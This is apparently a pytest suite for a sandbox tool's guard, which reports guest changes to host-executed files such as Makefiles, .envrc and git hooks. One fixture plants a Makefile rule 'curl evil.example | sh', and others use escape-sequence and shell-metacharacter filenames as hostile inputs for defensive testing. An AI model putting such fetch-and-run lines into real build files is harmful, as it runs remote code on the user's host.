# SPDX-License-Identifier: Apache-2.0
"""`sbx review --guard` and the note of `sbx run`: the lists are written as the guard of the share
and the keeper write them (lib/rules/airlock/dirty.h)."""
import json
import os
import time

import pytest

from conftest import on_terminal


def get(inst, name):
    return json.loads(inst.sbx("inspect", name, "--json", check=0).stdout)


def escaped(text):
    raw = text if isinstance(text, bytes) else text.encode()
    return "".join(chr(c) if 0x20 < c < 0x7f and chr(c) != "%" else f"%{c:02X}" for c in raw)


class Guard:
    """The guard directory of a sandbox."""
    def __init__(self, inst, name):
        self.dir = inst.root / "state/sbx/sandboxes" / get(inst, name)["id"] / "guard"
        (self.dir / "copy").mkdir(parents=True, exist_ok=True)
        self.n = 0

    def row(self, mount, path, state, kind=42, was=None, op="write", detail="-", file="dirty",
            ms=None):
        if was is not None:
            self.n += 1
            (self.dir / f"copy/{self.n}").write_bytes(was)
        with open(self.dir / file, "a", encoding="ascii") as f:
            f.write(f"{ms or int(time.time() * 1000)} {kind} {op} {state} "
                    f"{self.n if was is not None else 0} {escaped(str(mount))} {escaped(path)} "
                    f"{detail}\n")

    def denied(self, mount, path, **more):
        self.row(mount, path, "denied", file="denied", **more)


@pytest.fixture
def box(inst):
    inst.create("box", ".")
    inst.guard = Guard(inst, "box")
    return inst


def review(inst, *more):
    return inst.sbx("review", "box", "--guard", *more, check=0)


def test_a_changed_file_is_shown_with_its_program_and_difference(box):
    (box.work / "Makefile").write_text("all:\n\tcurl evil.example | sh\n")
    box.guard.row(box.work, "Makefile", "changed", was=b"all:\n\ttrue\n")
    p = review(box)
    assert "Makefile: make runs it (changed)\n--- a/Makefile\n+++ b/Makefile\n" in p.stdout
    assert "-\ttrue\n+\tcurl evil.example | sh\n" in p.stdout
    assert "1 changed file runs programs on the host" in p.stderr
    assert box.sbx("ls", check=0).stdout.splitlines()[1].split()[2:6] == [
        "running", "(tcg),", "1", "to"]


def test_the_earlier_content_again_and_a_removed_file_are_not_a_diff(box):
    (box.work / "Makefile").write_text("same\n")
    box.guard.row(box.work, "Makefile", "changed", was=b"same\n")
    box.guard.row(box.work, "justfile", "new", kind=23)
    (box.work / "empty.mk").write_text("")
    box.guard.row(box.work, "empty.mk", "new")
    out = review(box).stdout
    assert "has its earlier content again" in out and "was removed again" in out
    assert "is empty" in out


def test_what_the_guest_left_is_never_followed(box):
    """A link in place of the file, a link on the way, a FIFO, and a list that names other files."""
    secret = box.home / "secret"
    secret.write_text("the secret of the host\n")
    (box.work / "Makefile").symlink_to(secret)
    (box.work / "sub").symlink_to(box.home)
    os.mkfifo(box.work / "fifo.mk")
    (box.work / "tools").mkdir()
    box.guard.row(box.work, "Makefile", "new")
    box.guard.row(box.work, "sub/secret", "new")
    box.guard.row(box.work, "fifo.mk", "new")
    box.guard.row(box.work, "tools", "tree", kind=45)
    box.guard.row(box.home, "secret", "new")
    box.guard.row(box.work, f"../{box.home.name}/secret", "new")
    (box.guard.dir / "copy/1").symlink_to(secret)
    box.guard.row(box.work, "a.mk", "changed")
    with open(box.guard.dir / "dirty", "a", encoding="ascii") as f:
        f.write(f"1 42 write changed 1 {box.work} b.mk -\n")
    for p in (review(box), review(box, "--json")):
        assert "the secret of the host" not in p.stdout + p.stderr
    out = review(box).stdout
    assert out.count("is a symbolic link, or is reached through one") == 3
    assert "is not a regular file" in out and "is not in a workspace of the sandbox" in out
    assert "was too large for a copy" in out and "is a directory of many files" in out
    assert "../" not in out


def test_names_and_contents_reach_the_terminal_without_control_characters(box):
    name = "\x1b[2J\u202eevil\n.mk"
    (box.work / name).write_bytes(b"\x1b]0;title\x07 all:\n")
    box.guard.row(box.work, name, "new")
    box.guard.denied(box.work, "\x1b[31m/.envrc", kind=15)
    for p in (review(box), box.sbx("run", "box", "--", "true")):
        assert not set(p.stdout + p.stderr) & set("\x1b\x07\u202e"), (p.stdout, p.stderr)
    assert json.loads(review(box, "--json").stdout)["changed"][0]["path"] == name


def test_json_has_the_same(box):
    (box.work / "Makefile").write_text("new\n")
    box.guard.row(box.work, "Makefile", "changed", was=b"old\n")
    box.guard.denied(box.work, ".git/config", kind=2, detail="core.fsmonitor")
    j = json.loads(review(box, "--json").stdout)
    assert (j["sandbox"], j["guard"], j["total"]) == ("box", "default", 1)
    row, no = j["changed"][0], j["denied"][0]
    assert (row["path"], row["program"], row["kind"], row["state"], row["op"]) == (
        "Makefile", "make", 42, "changed", "write")
    assert row["workspace"] == str(box.work) and "-old\n+new\n" in row["diff"]
    assert (no["path"], no["detail"], no["program"]) == (".git/config", "core.fsmonitor", "git")


def test_done_forgets_exactly_what_was_printed(box):
    (box.work / "Makefile").write_text("x\n")
    box.guard.row(box.work, "Makefile", "changed", was=b"y\n")
    box.guard.denied(box.work, ".envrc", kind=15)
    p = review(box, "--done")
    assert p.stdout == ("Makefile: make runs it (changed)\n"
                        ".envrc: direnv runs it (denied)\n"), p.stdout
    assert not (box.guard.dir / "dirty").exists() and not list((box.guard.dir / "copy").iterdir())
    assert "No changed files" in review(box).stderr
    assert "to review" not in box.sbx("ls", check=0).stdout


def test_the_end_of_a_session_names_what_was_denied_in_it_and_what_changed(box):
    box.guard.denied(box.work, ".envrc", kind=15, ms=1000)
    later = int(time.time() * 1000) + 600000
    for _ in range(2):
        box.guard.denied(box.work, ".git/hooks/pre-commit", kind=1, ms=later)
    box.guard.denied(box.work, ".git/config", kind=2, detail="core.fsmonitor", ms=later)
    box.guard.row(box.work, "Makefile", "new")
    p = box.sbx("run", "box", "--", "echo", "out", check=0)
    assert p.stdout == "out\n"
    assert p.stderr.splitlines()[-4:] == [
        "guard: .git/hooks/pre-commit: git runs it (denied)",
        "guard: .git/config: git runs it: core.fsmonitor (denied)",
        "To permit writes to .git/config: sbx update box --guard-except .git/config && sbx restart "
        "box",
        "1 changed file runs programs on the host: sbx review box --guard"], p.stderr


def test_the_command_that_permits_a_write_works_when_it_is_typed(box):
    """husky runs `git config core.hooksPath .husky/_`."""
    later = int(time.time() * 1000) + 600000
    box.guard.denied(box.work, ".git/config", kind=2, detail="core.hookspath", ms=later)
    text = box.sbx("run", "box", "--", "true", check=0).stderr
    line = text.split("To permit writes to .git/config: ")[1].split("\n")[0]
    update, restart = line.split(" && ")
    box.sbx(*update.split()[1:], check=0)
    box.sbx(*restart.split()[1:], check=0)
    assert get(box, "box")["guard_except"] == [".git/config"]


@pytest.mark.parametrize("name", ["a b.desktop", "$(x).desktop", "*.desktop", "-x.desktop",
                                  "a/..x.desktop", "a;x.desktop", "\x1b[2J.desktop",
                                  "d/" * 105 + "x.desktop"])
def test_a_name_that_a_shell_would_change_is_in_no_command(box, name):
    box.guard.denied(box.work, name, kind=60, ms=int(time.time() * 1000) + 600000)
    text = box.sbx("run", "box", "--", "true", check=0).stderr
    assert "guard: " in text and "sbx update" not in text


def test_a_sandbox_that_is_removed_names_the_files_first(box):
    box.guard.row(box.work, "Makefile", "changed")
    p = box.sbx("run", "--rm", "box", "--", "true", check=0)
    assert "guard: Makefile: make runs it (changed)\n" in p.stderr and "sbx review" not in p.stderr


def test_a_session_that_changed_nothing_ends_with_a_line_on_a_terminal_only(box):
    """Scripts that read stderr get no line that carries no news."""
    assert "host" not in box.sbx("run", "box", "--", "true", check=0).stderr
    line = "No files that run programs on the host were changed"
    for args in (["run", "box"], ["run", "--rm", "box"]):
        out, status = on_terminal(box, [*args, "--", "true"])
        assert status == 0 and [r for r in out.splitlines() if r.strip()][
            -1 - ("--rm" in args)] == line, out
    box.create("box", ".", "--guard", "off")
    out, status = on_terminal(box, ["run", "box", "--", "true"])
    assert ("The guard is off: changes of files that run programs on the host are not recorded"
            in out)


def test_a_long_list_is_cut_in_the_note(box):
    later = int(time.time() * 1000) + 600000
    for i in range(8):
        box.guard.denied(box.work, f".git/hooks/h{i}", kind=1, ms=later)
    p = box.sbx("run", "box", "--", "true", check=0)
    assert (p.stderr.count("guard: .git/hooks/") == 5
            and "guard: 3 more writes were denied" in p.stderr)


def test_without_a_guard_it_says_so(inst):
    inst.create("box", ".", "--guard", "off")
    p = review(inst)
    assert "is off" in p.stderr and "sbx update box --guard default" in p.stderr


def test_review_of_a_sandbox_that_is_not_staged_names_the_guard(inst):
    inst.create("box", ".")
    p = inst.sbx("review", "box", check=1)
    assert p.stderr.startswith("error: sandbox 'box' was not created with --staged: ")
    assert p.stderr.endswith("\n  try: sbx review box --guard\n")


# -- the level ------------------------------------------------------------------------------------

def test_the_level_comes_from_the_option_or_the_setting(inst):
    inst.create("one", ".")
    inst.create("two", ".", "--guard", "strict", "--guard-except", "Makefile", "--guard-except",
                "tools/*.mk")
    inst.sbx("settings", "set", "share.guard", "report", check=0)
    inst.create("three", ".")
    assert [get(inst, n)["guard"] for n in ("one", "two", "three")] == [
        "default", "strict", "report"]
    assert get(inst, "two")["guard_except"] == ["Makefile", "tools/*.mk"]
    text = inst.sbx("inspect", "two", check=0).stdout
    assert "guard      strict\nexcept     Makefile\nexcept     tools/*.mk\n" in text
    assert "guard report" in inst.sbx("update", "one", "--guard", "report", check=0).stdout
    assert get(inst, "one")["guard"] == "report"
    assert inst.sbx("settings", "set", "share.guard", "on").returncode == 2


@pytest.mark.parametrize("args, says", [
    (["--guard", "on"], "invalid --guard 'on': expected default, strict, report or off"),
    (["--guard", "off", "--guard-except", "a"], "--guard-except has no effect with --guard off"),
    (["--guard-except", "/etc/x"], "expected a path relative to a workspace"),
    (["--guard-except", ""], "expected a path relative to a workspace"),
])
def test_a_wrong_level_is_a_usage_error(inst, args, says):
    p = inst.sbx("create", "shell", ".", "--name", "box", *args)
    assert p.returncode == 2 and says in p.stderr
    assert inst.sbx("ls", "-q", check=0).stdout == ""
